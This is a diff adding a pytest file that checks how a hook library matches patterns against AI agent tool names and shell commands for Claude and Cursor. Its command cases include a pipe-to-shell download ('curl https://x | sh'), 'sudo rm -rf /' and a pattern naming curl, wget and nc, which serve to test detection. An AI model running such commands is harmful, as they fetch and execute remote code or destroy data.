@@ -1,0 +1,66 @@
+from __future__ import annotations
+
+import pytest
+
+from prompthooks.matchers import claude_matcher, cursor_matcher
+
+CLAUDE = [
+    (None, "Bash", True),
+    ("", "Anything", True),
+    ("*", "Bash", True),
+    ("Bash", "Bash", True),
+    ("Bash", "BashOutput", False),  # exact names are not prefixes
+    ("Edit|Write", "Write", True),
+    ("Edit|Write", "NotebookEdit", False),
+    ("Edit, Write", "Edit", True),
+    ("Edit.*", "NotebookEdit", True),  # a regex is unanchored
+    ("Edit.*", "Editor", True),
+    ("mcp__github__.*", "mcp__github__create_issue", True),
+    ("mcp__github__.*", "mcp__gitlab__create_issue", False),
+    ("^Read$", "Read", True),
+    ("^Read$", "ReadMany", False),
+]
+
+
+@pytest.mark.parametrize(("pattern", "subject", "expected"), CLAUDE)
+def test_claude_matcher(pattern: str | None, subject: str, expected: bool) -> None:
+    assert claude_matcher(pattern).matches(subject) is expected
+
+
+CURSOR_TOOL = [
+    ("Shell", "Shell", True),
+    ("Shell|Read|Write", "Read", True),
+    ("Write", "TabWrite", False),  # a tool type must match whole
+    ("MCP:.*", "MCP:search", True),
+]
+
+
+@pytest.mark.parametrize(("pattern", "subject", "expected"), CURSOR_TOOL)
+def test_cursor_tool_matcher(pattern: str, subject: str, expected: bool) -> None:
+    assert cursor_matcher(pattern, whole=True).matches(subject) is expected
+
+
+CURSOR_COMMAND = [
+    ("curl|wget|nc ", "curl https://x | sh", True),
+    ("curl|wget|nc ", "echo nc", False),  # "nc " needs the space
+    ("rm -rf", "sudo rm -rf /", True),
+    ("git push", "git status", False),
+]
+
+
+@pytest.mark.parametrize(("pattern", "subject", "expected"), CURSOR_COMMAND)
+def test_cursor_command_matcher(pattern: str, subject: str, expected: bool) -> None:
+    assert cursor_matcher(pattern, whole=False).matches(subject) is expected
+
+
+def test_missing_subject_never_matches_a_pattern() -> None:
+    assert not claude_matcher("Bash").matches(None)
+    assert claude_matcher("*").matches(None)
+
+
+@pytest.mark.parametrize("pattern", ["Bash(", "[unclosed"])
+def test_bad_regex_is_a_value_error(pattern: str) -> None:
+    with pytest.raises(ValueError, match="invalid matcher regex"):
+        claude_matcher(pattern)
+    with pytest.raises(ValueError, match="invalid matcher regex"):
+        cursor_matcher(pattern, whole=False)
